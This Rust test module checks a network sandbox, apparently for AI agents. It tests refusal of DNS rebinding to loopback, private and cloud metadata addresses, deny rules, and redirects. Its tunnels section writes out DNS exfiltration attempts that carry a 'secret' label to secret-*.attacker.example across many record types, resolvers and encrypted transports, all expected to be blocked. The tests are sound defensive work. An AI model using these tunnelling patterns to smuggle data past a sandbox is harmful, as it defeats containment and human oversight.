//! What resolvers answer: rebinding, aliases, records without a time to live, failures; and what DNS could carry out.

use crate::case::{Case, Group, curl, probe};

fn http(name: &str) -> String {
    probe(&["http", name, "80", name, "/"])
}

fn refused(
    name: impl Into<String>,
    script: String,
    reason: &'static str,
    rule: &'static str,
) -> Case {
    Case::refused(
        "rebinding",
        name,
        script,
        &["403 Forbidden", &format!("X-Rcc-Reason: {reason}")],
        (reason, rule),
    )
}

fn answers(label: &str) -> Vec<Case> {
    let mut cases = Vec::new();
    for (class, reason) in [
        ("loopback", "loopback"),
        ("loopback-other", "loopback"),
        ("loopback6", "loopback"),
        ("unspecified", "loopback"),
        ("unspecified6", "loopback"),
        ("lan10", "private_address"),
        ("lan172", "private_address"),
        ("lan192", "private_address"),
        ("cgnat", "private_address"),
        ("linklocal", "link_local_address"),
        ("metadata", "metadata_address"),
        ("metadata6", "metadata_address"),
        ("ula", "private_address"),
        ("host", "host_address"),
        ("host6", "host_address"),
        ("host-lan", "host_address"),
        ("mapped-loopback", "loopback"),
        ("mapped-metadata", "metadata_address"),
        ("nat64-lan", "private_address"),
        ("6to4-loopback", "loopback"),
        ("teredo-lan", "private_address"),
        ("reserved", "reserved_address"),
    ] {
        let name = format!("rebind-{class}.example");
        cases.push(refused(
            format!("39: {name}, {label}"),
            http(&name),
            reason,
            "",
        ));
    }
    cases
}

fn internet() -> Vec<Case> {
    let mut cases = answers("internet");
    cases.push(refused(
        "39: an alias of a name on the LAN",
        http("alias-lan.example"),
        "private_address",
        "",
    ));
    for (name, host, address) in [
        (
            "one good and one forbidden address",
            "rebind-mixed.example",
            "203.0.113.51",
        ),
        ("no time to live", "ttl0.example", "203.0.113.62"),
        ("an alias of an alias", "alias2.example", "203.0.113.10"),
        (
            "one family is dead, the other answers",
            "dead6.example",
            "203.0.113.33",
        ),
        ("IPv6 only", "v6only.example", "2001:db8::31"),
        ("IPv4 only", "v4only.example", "203.0.113.30"),
        ("an answer that needs TCP", "big.example", "198.51.100."),
        (
            "a name from the host's own file",
            "in-hosts-file.example",
            "203.0.113.70",
        ),
        (
            "a name with an underscore",
            "with_underscore.example",
            "203.0.113.54",
        ),
        (
            "an international name",
            "xn--bcher-kva.example",
            "203.0.113.52",
        ),
    ] {
        let script = if address == "203.0.113.10" {
            probe(&["http", host, "80", host, "/"])
        } else {
            http(host)
        };
        // The server says the address it was reached at; a dual-stack name may be reached over either family.
        let seen = if host == "alias2.example" {
            "served_by".to_owned()
        } else {
            format!("served_by\\\":\\\"{address}")
        };
        cases.push(Case::allowed("resolving", name, script, &[&seen]));
    }
    for (name, host, code) in [
        ("a resolver that fails", "servfail.example", 2),
        ("a name that does not exist", "nothing.example", 3),
    ] {
        let script = probe(&["dns", "203.0.113.53", "udp", host, "A", "edns=1232"]);
        cases.push(Case::allowed(
            "resolving",
            name,
            script,
            &[&format!("\"code\":{code}")],
        ));
    }
    cases.push(
        Case::refused(
            "rule",
            "a deny rule in mode internet",
            http("denied.example"),
            &["lookup"],
            ("deny_rule", "denied.example"),
        )
        .unseen("denied"),
    );
    cases.push(Case::refused(
        "rule",
        "a name that leads to a denied address",
        curl("http://evil-allowed.example/"),
        &["403 Forbidden", "deny_rule"],
        ("deny_rule", "203.0.113.23"),
    ));
    cases.push(
        Case::refused(
            "resolving",
            "a name of the local network",
            probe(&[
                "dns",
                "203.0.113.53",
                "udp",
                "printer.local",
                "A",
                "edns=1232",
            ]),
            &["\"code\":"],
            ("no_rule", ""),
        )
        .unseen("printer"),
    );
    cases
}

fn allowlist() -> Vec<Case> {
    let mut cases = answers("allowlist");
    for (name, script) in [
        (
            "a redirect within what is allowed",
            curl("-L http://allowed.example:9082/http%3A%2F%2Fv4only.example%2F"),
        ),
        (
            "a redirect by another name of the same rule",
            curl("-L http://allowed.example:9082/http%3A%2F%2Fttl0.example%2F"),
        ),
    ] {
        cases.push(
            Case::allowed("second hop", name, script, &["302 Found", "200 OK"])
                .needs("curl")
                .needs("node")
                .needs("openssl"),
        );
    }
    cases
}

/// Nothing of this may leave: the label `secret` is what the agent wants to tell somebody.
fn tunnels() -> Vec<Case> {
    let mut cases = Vec::new();
    let shows = ["\"code\":5", "\"extended_error\":[15"];
    let mut ask = |name: String, words: &[&str]| {
        let case = Case::refused("dns", name, probe(words), &shows, ("no_rule", ""));
        // Over TCP nobody answers there, so nothing would be said.
        let is_silent =
            words[2] == "tcp" && ["192.0.2.53", "64:ff9b::cb00:7135"].contains(&words[1]);
        let case = case.unseen("secret");
        cases.push(if is_silent {
            case.without_control()
        } else {
            case
        });
    };
    for kind in [
        "A", "AAAA", "TXT", "NULL", "ANY", "MX", "SRV", "CNAME", "NS", "SOA", "HTTPS", "CAA",
    ] {
        let name = format!("secret-{}.attacker.example", kind.to_ascii_lowercase());
        ask(
            format!("32: a label in a question for {kind}"),
            &["dns", "203.0.113.53", "udp", &name, kind, "edns=1232"],
        );
    }
    for (name, server) in [
        ("the host's resolver over IPv6", "2001:db8::53"),
        ("a public resolver", "198.51.100.53"),
        ("a resolver on the LAN", "192.168.77.53"),
        ("the resolver of a cloud", "169.254.169.253"),
        ("an address where nobody is", "192.0.2.53"),
        ("NAT64", "64:ff9b::cb00:7135"),
    ] {
        for transport in ["udp", "tcp"] {
            let label = format!(
                "secret-{}.attacker.example",
                server.replace([':', '.'], "-").trim_matches('-')
            );
            ask(
                format!("32: {name} asked over {transport}"),
                &["dns", server, transport, &label, "TXT", "edns=1232"],
            );
        }
    }
    let chain = format!("secret.{}attacker.example", "d.".repeat(60));
    let long = format!("secret{}.attacker.example", "y".repeat(57));
    for (name, label) in [
        ("a chain of labels", chain.as_str()),
        ("a long label", &long),
        ("odd letters", "sEcReT.AttackeR.eXample"),
    ] {
        ask(
            format!("32: {name}"),
            &["dns", "203.0.113.53", "udp", label, "A", "edns=4096"],
        );
    }
    let odd = |name: &str, words: &[&str], code: &str, reason: &'static str| {
        Case::refused("dns", name, probe(words), &[code], (reason, "")).unseen("secret")
    };
    cases.push(odd(
        "32: two questions",
        &[
            "dns",
            "203.0.113.53",
            "udp",
            "allowed.example",
            "A",
            "also=secret.attacker.example/A",
        ],
        "\"code\":1",
        "dns_question_count",
    ));
    cases.push(odd(
        "a label below an allowed name in another class",
        &[
            "dns",
            "203.0.113.53",
            "udp",
            "secret.allowed.example",
            "TXT",
            "class=3",
        ],
        "\"code\":5",
        "dns_class",
    ));
    cases.push(odd(
        "a zone transfer",
        &[
            "dns",
            "203.0.113.53",
            "tcp",
            "secret.allowed.example",
            "AXFR",
        ],
        "\"code\":5",
        "no_rule",
    ));
    // Other ways to a resolver.
    let udp = |name: &str, address: &str, port: &str| {
        Case::refused(
            "dns",
            name,
            probe(&["udp", address, port, "secret"]),
            &["EHOSTUNREACH"],
            ("no_rule", ""),
        )
        .unseen("secret")
    };
    cases.push(udp("a question on another port", "203.0.113.10", "5300"));
    cases.push(udp("DNS over QUIC to a resolver", "203.0.113.53", "853"));
    cases.push(
        Case::refused(
            "dns",
            "DNS over TLS to a resolver",
            probe(&[
                "tcp-talk",
                "203.0.113.53",
                "853",
                "\\x16\\x03\\x01\\x00\\x05secret",
                "500",
            ]),
            &["15030300020231"],
            ("no_rule", ""),
        )
        .without_control(),
    );
    cases.push(
        Case::refused(
            "dns",
            "DNS over HTTPS to a resolver",
            curl("https://203.0.113.53/dns-query?name=secret.attacker.example"),
            &["status 000", "alert"],
            ("no_rule", ""),
        )
        .needs("curl"),
    );
    cases.push(Case::allowed(
        "dns",
        "an allowed name over TCP",
        probe(&[
            "dns",
            "192.0.2.53",
            "tcp",
            "allowed.example",
            "A",
            "edns=1232",
        ]),
        &["198.18."],
    ));
    cases.push(Case::allowed(
        "dns",
        "an allowed name over IPv6, without EDNS",
        probe(&["dns", "2001:db8::53", "udp", "allowed.example", "AAAA"]),
        &["fd72:6363:"],
    ));
    cases
}

pub(crate) fn groups() -> Vec<Group> {
    vec![
        Group {
            name: "internet",
            flags: vec![
                "--network",
                "internet",
                "--deny",
                "denied.example",
                "--deny",
                "203.0.113.23",
            ],
            cases: internet(),
        },
        Group {
            name: "wildcard",
            flags: vec!["--network", "allowlist", "--allow", "*.example:80,9082"],
            cases: allowlist(),
        },
        Group {
            name: "tunnels",
            flags: vec!["--network", "allowlist", "--allow", "allowed.example"],
            cases: tunnels(),
        },
    ]
}
